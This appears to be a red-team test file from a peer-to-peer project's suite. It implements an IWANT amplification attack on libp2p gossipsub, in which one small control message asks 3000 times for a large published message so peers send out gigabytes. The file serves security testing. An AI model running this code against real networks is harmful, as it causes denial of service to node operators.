"""One small control message that asks three thousand times for one large message (K-A).

144 kB in made gigabytes out.
"""

from __future__ import annotations

from typing import Any

import trio
from libp2p.pubsub.pb import rpc_pb2

from p2p.gossip.topics import topic_name
from tests.gossip.attacks import MESHSUB, rpc
from tests.redteam.target import Target, each_tick, network_of, quietly

TIMES = 3000
PER_S = 1.0
LARGE = 200_000


def _want(message_id: bytes) -> Any:
    control = rpc_pb2.ControlMessage()
    for _ in range(TIMES):
        control.iwant.add().messageIDs.append(message_id)
    return control


async def attack(target: Target) -> None:
    """Its own large message first, with the id that pubsub makes of it: sequence number and author."""
    async with target.joined() as loud, target.bare("iwant bomb") as host:
        ids: list[bytes] = []
        topic = topic_name(network_of(target.genesis), "transactions")
        cache = loud._pubsub.router.mcache
        streams: dict[Any, Any] = {}
        async for number in each_tick(PER_S * len(target.addresses)):
            if number % 10 == 0:
                await quietly(loud.publish, "transactions", bytes(LARGE))
                await trio.sleep(0.2)
                ids = [entry.mid for window in cache.history for entry in window if topic in entry.topics] or ids
            peers = list(host.get_connected_peers())
            if not (peers and ids):
                continue
            peer = peers[number % len(peers)]
            if streams.get(peer) is None:
                streams[peer] = await quietly(host.new_stream, peer, [MESHSUB])
            wanted = ids[-1] if isinstance(ids[-1], bytes) else str(ids[-1]).encode()
            if streams[peer] is None or await quietly(streams[peer].write, rpc(control=_want(wanted))) is None:
                streams.pop(peer, None)
